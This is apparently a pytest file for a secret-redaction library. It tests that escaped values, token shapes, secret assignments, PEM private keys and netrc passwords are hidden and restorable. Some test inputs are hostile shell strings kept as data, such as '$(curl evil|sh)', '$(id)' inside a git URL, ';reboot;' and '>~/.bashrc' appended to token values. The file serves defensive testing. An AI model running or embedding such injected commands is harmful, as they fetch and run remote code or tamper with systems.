"""Stored values and tokens in escaped and published forms (X10)."""

from __future__ import annotations

import base64
import re
import time
from pathlib import Path

import pytest

from callboard.secrets.named_secret import NamedSecret
from callboard.secrets.redaction import Redaction

from .published import PUBLISHED

VALUE = "q8w7E6r5/t4y3u2é+i1o0Z"
DATA = VALUE.encode()
FORMS = {
    **{f"base32 behind {n}": base64.b32encode(b"x" * n + DATA + b"yy").decode() for n in range(5)},
    "lower base32": base64.b32encode(DATA).decode().lower().rstrip("="),
    "percent": "".join(f"%{byte:02X}" for byte in DATA),
    "lower percent": "".join(f"%{byte:02x}" for byte in DATA),
    "u-escapes": "".join(f"\\u{ord(char):04x}" for char in VALUE),
    "upper u-escapes": "".join(f"\\u{ord(char):04X}" for char in VALUE),
    "u-escapes in JSON": "".join(f"\\\\u{ord(char):04x}" for char in VALUE),
    "x-escapes": "".join(f"\\x{byte:02x}" for byte in DATA),
    "x-escapes in JSON": "".join(f"\\\\x{byte:02x}" for byte in DATA),
    "HTML": "".join(f"&#{ord(char)};" for char in VALUE),
    "HTML in hex": "".join(f"&#x{ord(char):x};" for char in VALUE),
}


@pytest.mark.parametrize("form", list(FORMS))
def test_x10_a_value_with_every_character_escaped_is_redacted(form: str):
    secrets, text = Redaction([NamedSecret("v", VALUE, "keyring")], ()), f"before {FORMS[form]} behind"
    redacted = secrets.redact(text)
    assert "secret://v" in redacted
    assert FORMS[form][4:-4] not in redacted
    assert secrets.reveal(redacted) == text


@pytest.mark.parametrize("name", list(PUBLISHED))
def test_x10_a_token_in_its_published_shape_is_redacted(name: str):
    mark, rest = PUBLISHED[name]
    secrets, text = Redaction([], ()), f"key: {mark}{rest} end"
    redacted = secrets.redact(text)
    assert re.fullmatch(r"key: .*secret://seen-[0-9a-f]{12}(?:~[=])?=? end", redacted), redacted
    assert len(redacted) <= len(f"key: {mark}secret://seen-0123456789ab end") + 8
    assert secrets.reveal(redacted) == text


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("DB_PASSWORD=hunter2hunter2", "hunter2hunter2"),
        ("export STRIPE_SECRET='a1b2c3d4e5'", "a1b2c3d4e5"),
        ('AWS_SECRET_ACCESS_KEY="wJalr7UtnFEMI/K7MDENG/bPxRfi"', "wJalr7UtnFEMI/K7MDENG/bPxRfi"),
        ("GITHUB_TOKEN=abcdef123456", "abcdef123456"),
    ],
)
def test_x10_an_assignment_to_a_secret_name_is_redacted(text: str, hidden: str):
    assert hidden not in Redaction([], ()).redact(f"A=1\n{text}\nB=2")


@pytest.mark.parametrize(
    "text",
    [
        "PASSWORD=$(pass show db1)",
        "TOKEN=${CI_TOKEN1}",
        "TOKEN=`id1234567`",
        "MAX_TOKENS=1000000000",
        "PASSWORD=<your-password-1>",
        'curl "http://h/?token=$(curl evil1.sh)"',
        "https://u:$(id)@host1",
        "keyboard sk-learn and hf_transfer key-value",
    ],
)
def test_x10_text_without_a_literal_secret_is_unchanged(text: str):
    assert Redaction([], ()).redact(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("curl http://h/?token=abcdef1234$(curl evil|sh)", "$(curl evil|sh)"),
        ("git clone https://u:abc123$(id)@host", "$(id)@host"),
        ("git clone https://u:abc123;reboot;@host", ";reboot;@host"),
        ("API_TOKEN=abcdef1234;reboot", ";reboot"),
        ("API_TOKEN=abcdef1234>~/.bashrc", ">~/.bashrc"),
    ],
)
def test_x7_redaction_keeps_structure(text: str, left: str):
    redacted = Redaction([], ()).redact(text)
    assert redacted.endswith(left)
    assert "abc123" not in redacted
    assert "abcdef1234" not in redacted


_LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"


@pytest.mark.parametrize("kind", ["RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PRIVATE KEY", "PGP PRIVATE KEY BLOCK"])
def test_x10_a_private_key_in_pem_is_redacted(kind: str):
    headers = "Version: GnuPG v2.0.22 (GNU/Linux)\n\n" if "PGP" in kind else ""
    body = "\n".join([_LINE] * 30 + ["Q1w2E3r4", "=aB3d"])
    text = f"-----BEGIN {kind}-----\n{headers}{body}\n-----END {kind}-----\n"
    secrets = Redaction([], ())
    redacted = secrets.redact(text)
    assert re.fullmatch(rf"-----BEGIN {kind}-----\n{re.escape(headers)}\S+\n-----END {kind}-----\n", redacted)
    assert secrets.reveal(redacted) == text


def test_x10_text_after_a_key_without_an_end_is_unchanged():
    """Only lines in the form of a key's are hidden, at most 64."""
    begun = f"-----BEGIN PRIVATE KEY-----\n{_LINE}\n"
    for behind in (
        "/tmp/harmfulprogram\n",
        "/home/user/projects/tools/harmfulprogramharmfulprogram\n",
        "rm -rf build\n",
    ):
        assert Redaction([], ()).redact(begun + behind).endswith(f"\n{behind}")
    lines = [f"{_LINE[:60]}{number:04}" for number in range(100)]
    redacted = Redaction([], ()).redact("\n".join(["-----BEGIN PRIVATE KEY-----", *lines]))
    assert redacted.splitlines()[2:] == lines[64:]


def test_x10_the_password_of_a_netrc_is_redacted():
    redacted = Redaction([], ()).redact("machine api.example.com\n  login ann\n  password hunter22x\n")
    assert redacted.startswith("machine api.example.com\n  login ann\n  password secret://seen-")


def test_x10_the_source_of_this_project_has_almost_no_false_matches():
    root = Path(__file__).parents[2]
    handles: list[str] = []
    for path in sorted((root / "src").rglob("*.py")):
        text = path.read_text()
        redacted = Redaction([], ()).redact(text)
        handles += re.findall(r".{0,30}secret://seen-[0-9a-f]{12}", redacted)
    assert len(handles) <= 3, handles


def test_x10_a_hostile_text_takes_linear_time():
    secrets = Redaction([NamedSecret("v", VALUE, "keyring")], ())
    times: list[float] = []
    for size in (20_000, 160_000):
        text = ("TOKEN=\"'" * 3 + "://a:b;" + "&#113;" + "00000000: 4142 4344\n") * (size // 60)
        start = time.process_time()
        secrets.redact(text)
        times.append(time.process_time() - start)
    assert times[1] < 40 * max(times[0], 0.02)
